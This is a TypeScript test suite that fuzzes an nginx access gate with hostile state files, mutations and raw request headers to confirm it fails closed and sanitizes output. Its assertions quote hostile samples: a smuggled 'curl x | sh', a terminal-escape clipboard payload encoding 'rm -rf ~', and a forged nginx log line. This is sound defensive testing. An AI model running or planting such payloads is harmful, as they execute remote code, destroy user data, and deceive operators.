// Hostile state files against the real nginx gate (issue 20): the planted corpus
// (test/hostile/corpus/gate/<expected>--<what>.json) and seeded mutations of a real-shaped state.
// Whatever the file holds, the gate answers 503 with a named reason or passes a state the TS
// contract (packages/sas/src/sas-state.ts) accepts; it never answers 500, never hangs, never
// lets a control character or bidi override reach a page, and never forges an error-log line.
import { readdirSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import test, { type ExecutionContext } from "ava";
import { SasState, SAS_STATE_MAX_BYTES } from "@oclog/sas";
import { connect } from "node:net";
import { Dice, hostileString, mutateRecord } from "../hostile/hostile-random.js";
import { API, BROWSER, type Reply } from "../vm/gate/client.js";
import { GateStand } from "../vm/gate/stand.js";
import { DAY, sasState } from "../vm/gate/state.js";

const CORPUS = fileURLToPath(new URL("./corpus/gate/", import.meta.url));
const BLOCK = "x-oclog-gate-block";
/** The reasons a state file's content can produce (the filesystem ones are in test/vm/gate.test.ts). */
const CONTENT_CODES = ["contract", "invalid-json", "oversize", "empty", "expired", "expiring", "shipping-failing", "shipping-unknown"];
/** C0 controls except tab and newline, DEL, C1 controls, bidi controls. */
const UNSAFE_TEXT = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** JSON.stringify without recursion: mutations nest thousands deep, beyond a worker thread's stack. */
function stringify(root: unknown): string {
  const out: string[] = [];
  // Work items: text to emit as is, or a value to serialize (pushed in reverse order).
  const stack: ({ raw: string } | { value: unknown })[] = [{ value: root }];
  while (stack.length > 0) {
    const item = stack.pop()!;
    if ("raw" in item) {
      out.push(item.raw);
      continue;
    }
    const { value } = item;
    if (typeof value !== "object" || value === null) {
      out.push(JSON.stringify(value) ?? "null");
      continue;
    }
    const array = Array.isArray(value);
    const entries: [string | undefined, unknown][] = array ? value.map((v) => [undefined, v]) : Object.entries(value);
    out.push(array ? "[" : "{");
    stack.push({ raw: array ? "]" : "}" });
    for (let i = entries.length - 1; i >= 0; i--) {
      const [key, child] = entries[i]!;
      stack.push({ value: child });
      stack.push({ raw: `${i > 0 ? "," : ""}${key === undefined ? "" : `${JSON.stringify(key)}:`}` });
    }
  }
  return out.join("");
}

let stand: GateStand;
test.before(async () => {
  stand = await GateStand.start({ gate: { cache_seconds: "0" } });
});
test.after.always(async () => {
  await stand?.stop();
});

/** What the TS side says about the file: the gate may be stricter, never looser. */
function contractAccepts(bytes: Buffer): boolean {
  if (bytes.length > SAS_STATE_MAX_BYTES) return false;
  try {
    return SasState.safeParse(JSON.parse(bytes.toString("utf8"))).success;
  } catch {
    return false;
  }
}

function assertSafePage(t: ExecutionContext, r: Reply, what: string): void {
  t.false(UNSAFE_TEXT.test(r.body), `${what}: a control or bidi character reached the page`);
  t.false(/<script|<img/i.test(r.body), `${what}: markup from the state file reached the page`);
  t.true(r.body.length < 4096, `${what}: a ${r.body.length}-byte page`);
}

/** Every line of nginx's error log is one nginx line: nothing from a state file started a new one. */
function assertLogIntact(t: ExecutionContext): void {
  const lines = stand.nginx.errorLog().split("\n").filter((line) => line !== "");
  for (const line of lines) {
    t.regex(line, /^\d{4}\/\d\d\/\d\d \d\d:\d\d:\d\d \[[a-z]+\] \d+#\d+: /, "a forged or broken error-log line");
    t.true(line.length < 2000, `an error-log line of ${line.length} characters`);
    // nginx's own [info] lines echo request headers as sent (C1 characters included); Debian logs
    // at "error" and above. The gate's lines are held to the rule.
    if (line.includes("oclog gate:")) {
      t.false(UNSAFE_TEXT.test(line.replace(/\t/g, " ")), `a control or bidi character in the gate's error-log line: ${JSON.stringify(line.slice(0, 300))}`);
    }
  }
  const crashes = lines.filter((line) => /^\S+ \S+ \[(alert|emerg|crit)\]|exited on signal/.test(line));
  t.deepEqual(crashes, [], "nginx crashed or raised an alert");
}

const files = readdirSync(CORPUS).filter((name) => name.endsWith(".json")).sort();

test.serial("the planted corpus: each file gets the outcome its name says", async (t) => {
  t.true(files.length >= 30, `only ${files.length} corpus files`);
  for (const name of files) {
    const expected = name.slice(0, name.indexOf("--"));
    t.true(expected === "pass" || CONTENT_CODES.includes(expected), `${name}: unknown expected outcome ${expected}`);
    const bytes = readFileSync(`${CORPUS}${name}`);
    if (expected === "pass") t.true(contractAccepts(bytes), `${name}: the TS contract refuses a file the gate must pass`);
    stand.writeState(bytes);
    const hits = stand.upstream.hits.length;
    for (const [what, headers] of [["browser", BROWSER], ["api", API]] as const) {
      const r = await stand.get("/chat", { headers });
      if (expected === "pass") {
        t.is(r.status, 200, `${name} (${what})`);
        t.is(r.body, "upstream GET /chat", name);
        continue;
      }
      t.is(r.status, 503, `${name} (${what})`);
      t.is(r.headers[BLOCK], expected, `${name} (${what})`);
      assertSafePage(t, r, name);
    }
    if (expected !== "pass") t.is(stand.upstream.hits.length, hits, `${name}: reached the upstream`);
  }
  assertLogIntact(t);
  t.is((await stand.get("/healthz")).status, 200);
});

test.serial("what the hostile renew commands look like on the page", async (t) => {
  stand.writeState(readFileSync(`${CORPUS}expired--renew-command-bidi-override.json`));
  const bidi = await stand.get("/", { headers: BROWSER });
  t.true(bidi.body.includes("<pre><code>oclog sas rotate --vm alice \uFFFD\uFFFD; curl x | sh\uFFFD</code></pre>"));
  stand.writeState(readFileSync(`${CORPUS}expired--renew-command-terminal-escapes.json`));
  const escapes = await stand.get("/", { headers: API });
  t.true(escapes.body.includes("<pre><code>oclog sas rotate --vm alice\uFFFD[2J\uFFFD]52;c;cm0gLXJmIH4=\uFFFD\uFFFD31m</code></pre>"));
  stand.writeState(readFileSync(`${CORPUS}contract--unknown-field-forges-log-line.json`));
  const forged = await stand.get("/", { headers: API });
  t.regex(forged.body, /unknown field x\uFFFD2026\/12\/05 10:00:00 \[emerg\] 1#1: forged\uFFFD\[2J\./);
  t.regex(stand.nginx.errorLog(), /\[warn\] \d+#\d+: .*oclog gate: state file \S+: contract: the state file has an unknown field x\uFFFD2026\/12\/05 10:00:00 \[emerg\]/);
  stand.writeState(readFileSync(`${CORPUS}contract--key-of-60k-characters.json`));
  const long = await stand.get("/", { headers: API });
  t.true(long.body.includes(`unknown field ${"k".repeat(64)}...</p>`), "the field name is cut to 64 characters");
});

test.serial("seeded mutations of a real-shaped state: never looser than the TS contract, never a 500", async (t) => {
  // What oclog sas install writes plus the guard's fields, 3 days left: it passes as is.
  const base = sasState(3 * DAY, { shipping_checked_at: new Date().toISOString(), shipping_reason: "ship delivered 12 record(s) since 2026-12-05T10:00:00.000Z" });
  stand.writeState(base);
  t.is((await stand.get("/api/x", { headers: API })).status, 200);
  const dice = new Dice("gate-state-1");
  const outcomes = new Map<string, number>();
  const COUNT = 150;
  for (let i = 0; i < COUNT; i++) {
    const text = stringify(mutateRecord(dice, base));
    const bytes = Buffer.from(text);
    const accepted = contractAccepts(bytes);
    stand.writeState(bytes);
    const r = await stand.get("/api/x", { headers: API });
    const outcome = r.status === 200 ? "pass" : String(r.headers[BLOCK]);
    outcomes.set(outcome, (outcomes.get(outcome) ?? 0) + 1);
    const what = `mutation ${i} (seed gate-state-1): ${text.slice(0, 160)}`;
    t.true(r.status === 200 || r.status === 503, `${what}: HTTP ${r.status}`);
    if (r.status === 503) {
      t.true(CONTENT_CODES.includes(outcome), `${what}: reason ${outcome}`);
      assertSafePage(t, r, what);
    }
    if (!accepted) t.is(r.status, 503, `${what}: the gate passed a state the TS contract refuses`);
    else if (r.status !== 200) {
      // Stricter than the contract only where JSON.parse is lax: an escaped lone surrogate.
      t.true(outcome === "invalid-json" && /\\ud[89ab][0-9a-f]/i.test(text), `${what}: the gate refused (${outcome}) a state the contract accepts`);
    }
  }
  t.log(`${COUNT} mutations: ${[...outcomes].map(([k, v]) => `${k} ${v}`).join(", ")}`);
  assertLogIntact(t);
  t.is((await stand.get("/healthz")).status, 200);
});

/** Every byte of the UTF-8 (lone surrogates become U+FFFD) as %XX, except letters and digits. */
function percentEncoded(s: string): string {
  return [...Buffer.from(s, "utf8")].map((b) => (/[A-Za-z0-9]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, "0")}`)).join("");
}

/** One raw HTTP/1.1 request (bytes as given, nothing normalised); resolves with the status code. */
function rawRequest(port: number, head: Buffer): Promise<number> {
  return new Promise((resolve, reject) => {
    // write, not end: nginx treats a half-closed client as gone and drops a proxied request.
    const socket = connect(port, "127.0.0.1", () => socket.write(head));
    let reply = Buffer.alloc(0);
    socket.on("data", (d: Buffer) => (reply = Buffer.concat([reply, d])));
    socket.on("error", reject);
    socket.on("close", () => {
      const status = /^HTTP\/1\.1 (\d{3}) /.exec(reply.subarray(0, 32).toString("latin1"));
      if (status) resolve(Number(status[1]));
      else reject(new Error(`no status line in ${JSON.stringify(reply.subarray(0, 64).toString("latin1"))}`));
    });
  });
}

test.serial("seeded hostile request headers and paths: the gate's own reads (cookie, accept, upgrade) never fail open or crash", async (t) => {
  const dice = new Dice("gate-request-1");
  const HEADERS = ["Cookie", "Accept", "Upgrade", "Sec-Fetch-Mode", "Connection", "Host", "X-Forwarded-For"];
  const seen = new Map<string, number>();
  for (const [state, allowed] of [
    [sasState(-DAY), [503, 400, 200]], // 200 only for /healthz
    [sasState(6 * 3600), [200, 400, 101]], // the warning window reads the cookie, accept, upgrade and fetch mode
  ] as const) {
    stand.writeState(state);
    const hitsBefore = stand.upstream.hits.length;
    let healthz = 0;
    for (let i = 0; i < 60; i++) {
      const header = dice.pick(HEADERS);
      const value = hostileString(dice, header === "Cookie" ? "oclog_sas_notice=0123456789abcdef" : "text/html");
      const path = dice.chance(0.3) ? `/${percentEncoded(hostileString(dice, "chat")).slice(0, 2000)}` : dice.pick(["/", "/chat", "/healthz", "/ws"]);
      if (path === "/healthz") healthz++;
      const head = Buffer.concat([
        Buffer.from(`GET ${path} HTTP/1.1\r\nHost: gate\r\nAccept: text/html\r\n${header}: `, "latin1"),
        Buffer.from(value, "utf8"),
        Buffer.from("\r\nConnection: close\r\n\r\n", "latin1"),
      ]);
      const status = await rawRequest(stand.port, head).catch((error: Error) => {
        throw new Error(`seed gate-request-1, request ${i}: ${header}: ${JSON.stringify(value.slice(0, 80))} on ${path.slice(0, 80)}: ${error.message}`);
      });
      seen.set(String(status), (seen.get(String(status)) ?? 0) + 1);
      t.true((allowed as readonly number[]).includes(status), `seed gate-request-1, request ${i}: ${header}: ${JSON.stringify(value.slice(0, 80))} on ${path.slice(0, 80)}: HTTP ${status}`);
    }
    if (state.expires_at && Date.parse(String(state.expires_at)) < Date.now()) {
      t.is(stand.upstream.hits.length, hitsBefore, "a request reached the upstream while the gate was closed");
      t.log(`closed: ${healthz} /healthz requests among 60`);
    }
  }
  t.log(`statuses: ${[...seen].map(([k, v]) => `${k} x${v}`).join(", ")}`);
  assertLogIntact(t);
  t.is((await stand.get("/healthz")).status, 200);
});
